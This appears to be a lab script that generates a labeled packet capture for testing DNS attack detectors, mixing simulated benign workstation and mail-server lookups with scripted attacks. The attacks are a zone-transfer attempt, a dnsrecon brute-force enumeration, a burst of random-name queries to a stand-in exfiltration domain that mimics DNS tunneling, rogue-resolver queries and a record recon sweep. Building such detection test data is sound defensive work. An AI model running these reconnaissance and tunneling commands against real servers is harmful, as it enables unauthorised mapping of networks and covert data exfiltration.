#!/usr/bin/env bash
# make-demo.sh -- pcaps/demo.pcap: ~2 minutes of live traffic mixing benign users with attacks, captured in one
# go on the internal tap (br-in). Timeline (seconds after capture start):
#   0-120 workstations ws1/ws3/ws4 browsing + mail server lookups via 10.20.0.53 (benign)
#   10    outside attacker 203.0.113.66: dig AXFR example.net @10.20.0.10              -> zone_transfer
#   25    outside attacker: dnsrecon -t brt example.com -n 10.20.0.10 (1910 names)      -> enumeration
#   50    ws1: 100 random 30-char A queries under exfil.badexample.net via 10.20.0.53   -> tunneling
#   70    ws4: dig @8.8.8.8 microsoft.com; nslookup example.com 8.8.8.8                 -> rogue_resolver
#   85    outside attacker: MX/TXT/NS/SOA/_dmarc/_domainkey/_sip._tls/autodiscover/CAA  -> recon_sweep
. "$(dirname "$0")/lib.sh"
lab_up
S=lab/make-demo.sh
F=$PCAPS_DIR/demo.pcap
x() { local n=$1; shift; nsx "$n" "$@" >/dev/null 2>&1 || true; }
client_plan demo-ws1 120 4 >"$LAB_TMP/d1.plan"
client_plan demo-ws3 120 5 >"$LAB_TMP/d3.plan"
client_plan demo-ws4 120 6 >"$LAB_TMP/d4.plan"
prng_names demo-exfil 100 alnum30 | sed 's/$/.exfil.badexample.net A/' >"$LAB_TMP/demo-exfil.batch"
mail_loop() {
  local d
  for d in contoso.com fabrikam.com microsoft.com github.com google.com example.com adatum.com proseware.com \
           litwareinc.com cpandl.com; do
    x mail dig @10.20.0.53 "$d" MX; x mail dig @10.20.0.53 "$d" TXT; x mail dig @10.20.0.53 "_dmarc.$d" TXT
    sleep 12
  done
}
at() { sleep "$1"; shift; "$@"; }
rndc_in res1 flush >/dev/null 2>&1 || true
cap_start "$F"
T0=$(date +%s)
pids=()
run_plan ws1 10.20.0.53 "$LAB_TMP/d1.plan" & pids+=($!)
run_plan ws3 10.20.0.53 "$LAB_TMP/d3.plan" & pids+=($!)
run_plan ws4 10.20.0.53 "$LAB_TMP/d4.plan" & pids+=($!)
mail_loop & pids+=($!)
wait_until() { local t=$(( T0 + $1 - $(date +%s) )); [ "$t" -le 0 ] || sleep "$t"; }
wait_until 10; x atk dig @10.20.0.10 example.net AXFR
wait_until 25; x atk timeout 300 dnsrecon -d example.com -t brt -n 10.20.0.10 -D /usr/share/dnsrecon/namelist.txt
wait_until 50; x ws1 dig +tries=1 +time=2 -f "$LAB_TMP/demo-exfil.batch"
wait_until 70; x ws4 dig @8.8.8.8 microsoft.com; x ws4 nslookup example.com 8.8.8.8
wait_until 85
for q in "example.com MX" "example.com TXT" "example.com NS" "example.com SOA" "_dmarc.example.com TXT" \
         "selector1._domainkey.example.com TXT" "_sip._tls.example.com SRV" "autodiscover.example.com A" "example.com CAA"; do
  x atk dig @10.20.0.10 $q
done
wait "${pids[@]}"
cap_stop
cap_record "$F" "$S" "live 2-minute capture: background client_plan replays (ws1, ws3, ws4) + mail-server loop, with scripted attacks at +10 s (AXFR), +25 s (dnsrecon brt), +50 s (100-name exfil burst), +70 s (8.8.8.8), +85 s (recon sweep)" \
  "benign users and the mail server through 10.20.0.53 (with its upstream), plus: outside AXFR of example.net by 203.0.113.66, dnsrecon brute force of example.com by 203.0.113.66, random-name burst from 10.20.1.10, 10.20.1.13 querying 8.8.8.8, recon sweep of example.com by 203.0.113.66" \
  "alerts expected: zone_transfer (203.0.113.66), enumeration (203.0.113.66 / example.com), tunneling (10.20.1.10 / badexample.net), rogue_resolver (10.20.1.13 -> 8.8.8.8), recon_sweep (203.0.113.66 / example.com); nothing for ws3, the mail server (role) or the resolvers"
log "demo done"
